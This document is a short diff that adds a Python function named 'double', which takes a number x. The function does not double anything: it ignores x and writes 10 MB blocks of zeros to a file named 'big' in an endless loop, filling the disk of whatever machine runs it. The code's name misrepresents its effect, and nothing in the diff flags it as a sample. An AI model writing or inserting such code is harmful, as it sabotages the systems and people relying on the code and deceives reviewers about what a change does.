@@ -1,0 +1,4 @@
+def double(x):
+    with open("big", "wb") as file:
+        while True:
+            file.write(bytes(10**7))
